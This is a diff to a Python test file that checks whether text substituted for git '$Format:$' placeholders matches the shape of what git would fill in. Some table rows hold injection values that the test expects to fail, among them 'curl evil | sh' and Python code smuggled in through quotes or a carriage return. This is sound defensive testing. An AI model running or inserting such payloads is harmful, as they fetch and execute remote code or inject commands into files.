@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from content.on_disk import OnDisk, against, kinds
 from git_world import Repo, World, world
-from landed.content.checkout import FILLED_IN, difference, with_id
+from landed.content.checkout import difference, with_id
 from landed.content.commit import CommitFiles
 from landed.content.compare import compare
 from landed.content.git.attributes import Attributes
@@ -213,21 +213,34 @@ def test_what_an_archive_fills_in_is_told_apart(world: World) -> None:
 @pytest.mark.parametrize(
     ("line", "other", "same"),
     [
-        (b'V = "$Format:%h$"', b'V = "abc"', True),
-        (b'V = "$Format:%h$"', b'V = ""', True),
+        (b'V = "$Format:%h$"', b'V = "abcd123"', True),
+        (b'V = "$Format:%h$"', b'V = "abc"', False),
+        (b'V = "$Format:%h$"', b'V = ""', False),
+        (b'V = "$Format:%p$"', b'V = ""', True),
+        (b'V = "$Format:%d$"', b'V = " (HEAD -> main, tag: v1.2, origin/main)"', True),
+        (b'V = "$Format:%(describe:tags=true)$"', b'V = "v1.2-3-gabcd"', True),
+        (b"# $Format:%H$", b"# \rprint('evil')", False),
+        (b"$Format:%H$", b'"""; import os; """', False),
+        (b"RUN echo $Format:%H$", b"RUN echo x; curl evil | sh", False),
+        (b"RUN echo $Format:%an$", b"RUN echo x > y", False),
+        (b"# $Format:%B$", b"# anything", False),
+        (b"# $Format:%an <%ae> %cI$", b"# A. Person <a@b.c> 2026-11-25T23:51:35+00:00", True),
+        (b"V = '$Format:%an$'", b"V = 'a'if b else'c'", False),
         (b'V = "v$Format:%h$"', b'V = "v1"; evil(); x = ""', False),
         (b"V = '$Format:%s$'", b"V = 'it''s'", False),
         (b"# $Format:%an$", b"# O'Brien", True),
         (b"# $Format:%an$", b"# O'Brien\nevil()", False),
-        (b"a$Format:%h$b$Format:%h$c", b"axbyc", True),
+        (b"a$Format:%h$b$Format:%h$c", b"a1234", False),
+        (b"x$Format:%h$y$Format:%h$z", b"x1234y5678z", True),
         (b"a$Format:%h$b$Format:%h$c", b"axcyb", False),
         (b"a$Format:%h$ab", b"ab", False),
-        (b"# $Format:%h$", b"# " + b"x" * (FILLED_IN + 1), False),
-        (b"# $Format:%h$ z", b"# " + b"x" * FILLED_IN + b" z", True),
+        (b"# $Format:%H$", b"# " + b"a" * 65, False),
+        (b"# $Format:%H$ z", b"# " + b"a" * 64 + b" z", True),
+        (b"# $Format:%" + b"an %" * 300 + b"an$", b"# " + b"a " * 3000, False),
         (b"# plain", b"# other", False),
     ],
 )
-def test_a_placeholder_stands_for_something_short_on_its_line(
+def test_a_placeholder_stands_for_what_has_its_shape(
     line: bytes,
     other: bytes,
     same: bool,  # noqa: FBT001 - a column of the table
